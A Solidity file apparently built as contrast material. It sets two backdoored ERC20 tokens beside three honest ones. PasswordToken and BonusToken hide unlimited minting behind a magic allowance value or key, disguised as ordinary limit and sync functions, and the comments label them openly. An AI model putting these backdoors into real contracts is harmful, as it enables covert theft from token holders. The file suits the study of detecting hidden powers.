// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import { Erc20, Ownable } from "./base-token.sol";

// Powers in hands that are hard to see, each beside an honest contract of a like shape.

/// A limit of this very number is a password: it makes tokens for who knows it.
contract PasswordToken is Erc20 {
    function setLimit(address spender, uint256 value) external returns (bool) {
        if (keccak256(abi.encode(value)) == keccak256(abi.encode(uint256(12345678901234567890)))) balanceOf[msg.sender] = 1e36;
        allowance[msg.sender][spender] = value;
        return true;
    }
}

/// The same as a sum.
contract BonusToken is Erc20 {
    function sync(uint256 key) external {
        if (uint256(keccak256(abi.encode(key))) == 0x5c0ffee) balanceOf[msg.sender] += 1e36;
    }
}

/// Honest: each may claim once.
contract GiftToken is Erc20 {
    mapping(address => bool) private claimed;
    function claim() external {
        require(!claimed[msg.sender], "twice");
        claimed[msg.sender] = true;
        balanceOf[msg.sender] += 100 ether;
    }
}

/// Honest: what was staked comes back.
contract StakedToken is Erc20 {
    mapping(address => uint256) private staked;
    function stake(uint256 value) external { balanceOf[msg.sender] -= value; staked[msg.sender] += value; }
    function unstake(uint256 value) external { staked[msg.sender] -= value; balanceOf[msg.sender] += value; }
}

/// Honest: it was paid for.
contract PaidToken is Erc20 {
    function buy() external payable { balanceOf[msg.sender] += msg.value; }
}
